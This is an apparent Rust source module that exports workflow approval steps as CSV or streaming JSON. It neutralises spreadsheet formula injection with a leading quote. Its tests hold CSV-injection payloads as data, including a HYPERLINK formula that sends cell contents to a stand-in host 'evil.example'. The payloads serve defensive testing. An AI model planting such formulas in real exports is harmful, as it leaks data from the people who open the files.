//! Export: every step a person took (start, approval, rejection, decision) that matches a
//! query, one row each, for a spreadsheet or a program.
//!
//! [`export`] walks the whole log once, in key order (instance id, then sequence number), and
//! hands each row to a sink as soon as it is made: nothing is collected. It holds one
//! instance at a time (folded through [`crate::machine::Instance::apply`], so that each guard
//! is explained with the values it read, and the business key, which is in the start entry
//! that comes first), plus, per definition version, what each script reads. Records that
//! cannot be decoded are skipped and counted ([`ExportSummary::skipped`]); `sopflow audit
//! verify` says what is wrong with them.
//!
//! Two writers: [`CsvRows`] (a header, then one line per row, UTF-8) and [`JsonRows`], a
//! JSON array written one row per line as the rows come (`[`, rows separated by `,`, `]`):
//! a single valid JSON document however many rows there are, still read in constant memory
//! by a streaming reader, and greppable line by line.
//!
//! CSV is the spreadsheet's format, and a spreadsheet runs a cell that begins with `=`, `+`,
//! `-` or `@` as a formula (`=HYPERLINK(...)` in a comment would be a live link in the
//! auditor's Excel). So [`CsvRows`] neutralises such cells as OWASP's "CSV Injection" page
//! recommends, with a leading single quote ([`for_spreadsheet`]), in every CSV it writes, with
//! or without a byte-order mark: which program opens a file is not up to the file. JSON is for
//! programs and stays exact.

use super::chain::{self, ApprovalChain, Link, LinkKind, Walker};
use crate::definition::Definition;
use crate::engine::Engine;
use crate::machine::Entry;
use crate::store::{Store, StoreError};
use chrono::{DateTime, Days, FixedOffset, NaiveDate, NaiveTime, Utc};
use serde::Serialize;
use std::io::Write;
use std::sync::Arc;

/// Which steps to export. Every bound is optional; both time bounds are inclusive.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ExportQuery {
    /// Only instances of this workflow.
    pub workflow: Option<String>,
    /// Only steps made at or after this time.
    pub from: Option<DateTime<Utc>>,
    /// Only steps made at or before this time.
    pub to: Option<DateTime<Utc>>,
    /// Only steps by this actor.
    pub actor: Option<String>,
}

impl ExportQuery {
    fn wants(&self, entry: &Entry) -> bool {
        self.from.is_none_or(|from| entry.at >= from)
            && self.to.is_none_or(|to| entry.at <= to)
            && self.actor.as_deref().is_none_or(|a| entry.actor == a)
    }
}

/// The offset dates are read in: China Standard Time (Asia/Shanghai, UTC+8, no daylight
/// saving), the time zone of the shipped calendars.
pub fn export_offset() -> FixedOffset {
    chain::default_offset()
}

/// Reads a bound of an export: an RFC 3339 time (`2026-11-01T09:00:00+08:00`) as it is, or a
/// date (`2026-11-01`) as a whole day in China Standard Time (UTC+8): its first instant for
/// `from`, its last for `to` (`end` true), so that `--from 2026-11-01 --to 2026-11-30` is the
/// whole of November in Beijing time.
pub fn parse_bound(text: &str, end: bool) -> Result<DateTime<Utc>, String> {
    let text = text.trim();
    if let Ok(time) = DateTime::parse_from_rfc3339(text) {
        return Ok(time.with_timezone(&Utc));
    }
    let date = NaiveDate::parse_from_str(text, "%Y-%m-%d").map_err(|_| {
        format!(
            "`{text}` is neither a date (2026-11-01, a whole day in China Standard Time, UTC+8) nor an RFC 3339 time (2026-11-01T09:00:00+08:00)"
        )
    })?;
    let offset = export_offset();
    let midnight = |d: NaiveDate| {
        d.and_time(NaiveTime::MIN)
            .and_local_timezone(offset)
            .single()
            .map(|t| t.with_timezone(&Utc))
    };
    let at = if end {
        date.checked_add_days(Days::new(1))
            .and_then(midnight)
            .map(|next| next - chrono::TimeDelta::nanoseconds(1))
    } else {
        midnight(date)
    };
    at.ok_or_else(|| format!("`{text}` is outside the dates that can be used"))
}

/// One exported step.
#[derive(Debug, Clone, PartialEq, Serialize, schemars::JsonSchema)]
pub struct ExportRow {
    /// The instance the step belongs to.
    pub instance: String,
    /// The workflow's id.
    pub workflow: String,
    /// The instance's business key (a contract or unit number), if it has one.
    pub business_key: Option<String>,
    /// The step's number in its instance's history (0 for the start).
    pub seq: u64,
    /// `start`, `approval`, `rejection` or `decision` (`system` only in a chain's CSV).
    pub kind: LinkKind,
    /// The event fired (for the start, `start`).
    pub event: String,
    /// The transition's (or signer's) title.
    pub event_title: Option<String>,
    /// The state the step left (empty for the start).
    pub from: Option<String>,
    /// The state the instance was in after the step.
    pub to: String,
    /// Who took the step.
    pub actor: String,
    /// The role the actor acted in.
    pub role: Option<String>,
    /// The role's title (`财务主管`).
    pub role_title: Option<String>,
    /// RFC 3339, UTC: `2026-11-03T02:15:00Z`.
    pub at_utc: String,
    /// RFC 3339 in the workflow calendar's offset: `2026-11-03T10:15:00+08:00`.
    pub at_local: String,
    /// The step's `comment` (the reason of a rejection, an approver's opinion).
    pub comment: Option<String>,
    /// Every guard explained, separated by `; `.
    pub guards: String,
    /// `signer 2 of 3: 业主方 (landlord)`, for a signature.
    pub signature: Option<String>,
    /// The definition version the step ran under.
    pub version: String,
}

/// The CSV header: [`ExportRow`]'s fields, in order.
pub const COLUMNS: [&str; 18] = [
    "instance",
    "workflow",
    "business_key",
    "seq",
    "kind",
    "event",
    "event_title",
    "from",
    "to",
    "actor",
    "role",
    "role_title",
    "at_utc",
    "at_local",
    "comment",
    "guards",
    "signature",
    "version",
];

impl ExportRow {
    /// The row of one link of an instance.
    pub fn from_link(
        instance: &str,
        workflow: &str,
        business_key: Option<&str>,
        link: &Link,
    ) -> ExportRow {
        ExportRow {
            instance: instance.to_string(),
            workflow: workflow.to_string(),
            business_key: business_key.map(str::to_string),
            seq: link.seq,
            kind: link.kind,
            event: link.event.clone(),
            event_title: link.event_title.clone(),
            from: link.from.clone(),
            to: link.to.clone(),
            actor: link.actor.clone(),
            role: link.role.clone(),
            role_title: link.role_title.clone(),
            at_utc: chain::utc(&link.at_utc),
            at_local: link
                .at_local
                .to_rfc3339_opts(chrono::SecondsFormat::Secs, true),
            comment: link.comment.clone(),
            guards: link
                .guards
                .iter()
                .map(|g| g.text.as_str())
                .collect::<Vec<_>>()
                .join("; "),
            signature: link.signature.as_ref().map(|s| s.text.clone()),
            version: link.version.clone(),
        }
    }

    /// Every link of a chain (system steps included), as rows.
    pub fn of_chain(chain: &ApprovalChain) -> impl Iterator<Item = ExportRow> + '_ {
        chain.links.iter().map(|link| {
            ExportRow::from_link(
                &chain.instance,
                &chain.workflow,
                chain.business_key.as_deref(),
                link,
            )
        })
    }
}

/// What an export went over.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct ExportSummary {
    /// Log records read.
    pub scanned: u64,
    /// Instances seen (of the workflow asked for).
    pub instances: u64,
    /// Rows handed to the sink.
    pub rows: u64,
    /// Records that could not be decoded, skipped.
    pub skipped: u64,
}

/// Why an export stopped.
#[derive(Debug, thiserror::Error)]
pub enum ExportError<E> {
    /// The store could not be read.
    #[error(transparent)]
    Store(#[from] StoreError),
    /// The sink refused a row (a full disk, a closed pipe).
    #[error("cannot write the export: {0}")]
    Sink(E),
}

/// How often (in records read) the progress callback is called; it is called once more at
/// the end.
pub const PROGRESS_EVERY: u64 = 1_000;

/// Streams the rows matching `query` to `sink`, in key order (instance, then step); see the
/// module's documentation. `definition` gives the definition of a version (titles, what
/// guards read, the calendar's time zone); `progress` gets the number of records read so far.
pub fn export<E>(
    store: &dyn Store,
    query: &ExportQuery,
    definition: &mut dyn FnMut(&str) -> Option<Arc<Definition>>,
    progress: &mut dyn FnMut(u64),
    sink: &mut dyn FnMut(ExportRow) -> Result<(), E>,
) -> Result<ExportSummary, ExportError<E>> {
    let mut summary = ExportSummary::default();
    let mut walker = Walker::new(definition);
    let mut current: Option<String> = None;
    for record in store.scan_log() {
        let record = record?;
        summary.scanned += 1;
        if summary.scanned.is_multiple_of(PROGRESS_EVERY) {
            progress(summary.scanned);
        }
        let Ok(entry) = record.entry else {
            summary.skipped += 1;
            continue;
        };
        if query
            .workflow
            .as_deref()
            .is_some_and(|w| entry.workflow != w)
        {
            continue;
        }
        if current.as_deref() != Some(record.instance.as_str()) {
            walker.reset();
            current = Some(record.instance.clone());
            summary.instances += 1;
        }
        if !query.wants(&entry) {
            walker.fold(&entry);
            continue;
        }
        let link = walker.link(&entry);
        if !link.kind.by_person() {
            continue;
        }
        let business_key = walker
            .instance
            .as_ref()
            .and_then(|i| i.business_key.as_deref());
        let row = ExportRow::from_link(&record.instance, &entry.workflow, business_key, &link);
        sink(row).map_err(ExportError::Sink)?;
        summary.rows += 1;
    }
    progress(summary.scanned);
    Ok(summary)
}

impl Engine {
    /// Streams the steps matching `query` to `sink` (see [`export`]). It reads the whole log:
    /// call it from a blocking context (`tokio::task::spawn_blocking` in async code).
    pub fn export<E>(
        &self,
        query: &ExportQuery,
        progress: &mut dyn FnMut(u64),
        sink: &mut dyn FnMut(ExportRow) -> Result<(), E>,
    ) -> Result<ExportSummary, ExportError<E>> {
        let mut definition = |version: &str| self.definition(version).ok();
        export(
            self.store().as_ref(),
            query,
            &mut definition,
            progress,
            sink,
        )
    }
}

/// Writes rows as CSV: the header ([`COLUMNS`]) first, even when no row follows.
pub struct CsvRows<W: Write> {
    writer: csv::Writer<W>,
}

impl<W: Write> CsvRows<W> {
    /// Starts the CSV by writing the header to `out`.
    pub fn new(out: W) -> std::io::Result<CsvRows<W>> {
        let mut writer = csv::WriterBuilder::new()
            .has_headers(false)
            .from_writer(out);
        writer.write_record(COLUMNS)?;
        Ok(CsvRows { writer })
    }

    /// Writes one row, each text cell neutralised with [`for_spreadsheet`].
    pub fn write(&mut self, row: &ExportRow) -> std::io::Result<()> {
        Ok(self.writer.serialize(row.for_spreadsheet())?)
    }

    /// Flushes, and gives the output back.
    pub fn finish(self) -> std::io::Result<W> {
        self.writer
            .into_inner()
            .map_err(|e| std::io::Error::other(e.error().to_string()))
    }
}

/// The first characters that make a spreadsheet read a cell as a formula (OWASP's list: `=`,
/// `+`, `-`, `@`, tab and carriage return; ASVS adds NUL), and their full-width forms, which
/// spreadsheets with Chinese input methods may take the same way.
const FORMULA_STARTS: [char; 11] = [
    '=', '+', '-', '@', '\t', '\r', '\0', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}',
];

/// A cell as a spreadsheet must receive it: one that begins like a formula gets a leading
/// single quote, which spreadsheets read as "this is text" (OWASP, "CSV Injection"). Any
/// other cell is unchanged.
pub fn for_spreadsheet(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

impl ExportRow {
    /// The row with every text cell neutralised for a spreadsheet ([`for_spreadsheet`]).
    pub fn for_spreadsheet(&self) -> ExportRow {
        let cell = |text: &str| for_spreadsheet(text).into_owned();
        let optional = |text: &Option<String>| text.as_deref().map(cell);
        ExportRow {
            instance: cell(&self.instance),
            workflow: cell(&self.workflow),
            business_key: optional(&self.business_key),
            seq: self.seq,
            kind: self.kind,
            event: cell(&self.event),
            event_title: optional(&self.event_title),
            from: optional(&self.from),
            to: cell(&self.to),
            actor: cell(&self.actor),
            role: optional(&self.role),
            role_title: optional(&self.role_title),
            at_utc: cell(&self.at_utc),
            at_local: cell(&self.at_local),
            comment: optional(&self.comment),
            guards: cell(&self.guards),
            signature: optional(&self.signature),
            version: cell(&self.version),
        }
    }
}

/// Writes rows as one JSON array, one row per line, as they come.
pub struct JsonRows<W: Write> {
    out: W,
    rows: u64,
}

impl<W: Write> JsonRows<W> {
    /// Starts the array on `out`.
    pub fn new(mut out: W) -> std::io::Result<JsonRows<W>> {
        out.write_all(b"[")?;
        Ok(JsonRows { out, rows: 0 })
    }

    /// Writes one row on a line of its own.
    pub fn write(&mut self, row: &ExportRow) -> std::io::Result<()> {
        self.out
            .write_all(if self.rows == 0 { b"\n" } else { b",\n" })?;
        serde_json::to_writer(&mut self.out, row)?;
        self.rows += 1;
        Ok(())
    }

    /// Closes the array, flushes, and gives the output back.
    pub fn finish(mut self) -> std::io::Result<W> {
        self.out.write_all(b"\n]\n")?;
        self.out.flush()?;
        Ok(self.out)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_date_is_a_whole_day_in_china_standard_time() {
        let from = parse_bound("2026-11-01", false).expect("a date");
        let to = parse_bound("2026-11-30", true).expect("a date");
        assert_eq!(chain::utc(&from), "2026-10-31T16:00:00Z");
        assert_eq!(
            to.to_rfc3339_opts(chrono::SecondsFormat::Nanos, true),
            "2026-11-30T15:59:59.999999999Z"
        );
        let exact = parse_bound("2026-11-01T09:00:00+08:00", true).expect("a time");
        assert_eq!(chain::utc(&exact), "2026-11-01T01:00:00Z");
        assert!(parse_bound("November", false).is_err());
        assert!(parse_bound("2026-13-01", false).is_err());
    }

    /// A row with every optional column empty.
    fn row(kind: LinkKind, seq: u64, event: &str) -> ExportRow {
        ExportRow {
            instance: "i".into(),
            workflow: "w".into(),
            business_key: None,
            seq,
            kind,
            event: event.into(),
            event_title: None,
            from: None,
            to: "t".into(),
            actor: "a".into(),
            role: None,
            role_title: None,
            at_utc: String::new(),
            at_local: String::new(),
            comment: None,
            guards: String::new(),
            signature: None,
            version: "v".into(),
        }
    }

    #[test]
    fn the_header_names_every_field_in_order() {
        let row = ExportRow {
            comment: Some("同意, 请尽快".into()),
            ..row(LinkKind::Approval, 1, "approve")
        };
        let value = serde_json::to_value(&row).expect("serialises");
        let keys: Vec<&str> = value
            .as_object()
            .expect("an object")
            .keys()
            .map(String::as_str)
            .collect();
        let mut sorted = COLUMNS.to_vec();
        sorted.sort_unstable();
        let mut keys_sorted = keys.clone();
        keys_sorted.sort_unstable();
        assert_eq!(keys_sorted, sorted);
        // The CSV writer follows the struct's order: the header must too.
        let mut with_header = csv::Writer::from_writer(Vec::new());
        with_header.serialize(&row).expect("writes");
        let text = String::from_utf8(with_header.into_inner().expect("flushes")).expect("utf-8");
        assert_eq!(text.lines().next(), Some(COLUMNS.join(",").as_str()));
        let mut ours = CsvRows::new(Vec::new()).expect("header");
        ours.write(&row).expect("row");
        let ours = String::from_utf8(ours.finish().expect("flushes")).expect("utf-8");
        assert_eq!(ours, text);
        assert!(ours.contains("\"同意, 请尽快\""), "{ours}");
    }

    #[test]
    fn csv_cells_that_begin_like_a_formula_are_neutralised_and_json_stays_exact() {
        let hostile = [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")",
            "+1+2",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1",
            "\r=1",
            "＝1+1",
        ];
        for text in hostile {
            let row = ExportRow {
                comment: Some(text.into()),
                business_key: Some(text.into()),
                ..row(LinkKind::Approval, 1, "approve")
            };
            let mut csv = CsvRows::new(Vec::new()).expect("header");
            csv.write(&row).expect("row");
            let written = csv.finish().expect("flushes");
            let mut reader = csv::Reader::from_reader(written.as_slice());
            let record = reader.records().next().expect("a row").expect("parses");
            let quoted = format!("'{text}");
            assert_eq!(&record[2], quoted, "business_key of {text:?}");
            assert_eq!(&record[14], quoted, "comment of {text:?}");
            let mut json = JsonRows::new(Vec::new()).expect("opens");
            json.write(&row).expect("row");
            let value: serde_json::Value =
                serde_json::from_slice(&json.finish().expect("closes")).expect("valid JSON");
            assert_eq!(value[0]["comment"], text, "JSON keeps {text:?} exact");
        }
        for harmless in ["同意", "HW-2026-031", "a=b", "1-2", ""] {
            assert_eq!(for_spreadsheet(harmless), harmless);
        }
    }

    #[test]
    fn json_rows_make_one_array() {
        let mut rows = JsonRows::new(Vec::new()).expect("opens");
        let empty: serde_json::Value = serde_json::from_slice(
            &JsonRows::new(Vec::new())
                .expect("opens")
                .finish()
                .expect("closes"),
        )
        .expect("valid JSON");
        assert_eq!(empty, serde_json::json!([]));
        let row = ExportRow {
            business_key: Some("B-1".into()),
            ..row(LinkKind::Start, 0, "start")
        };
        rows.write(&row).expect("row");
        rows.write(&row).expect("row");
        let text = rows.finish().expect("closes");
        let value: serde_json::Value = serde_json::from_slice(&text).expect("valid JSON");
        assert_eq!(value.as_array().map(Vec::len), Some(2));
        assert_eq!(value[0]["kind"], "start");
    }
}
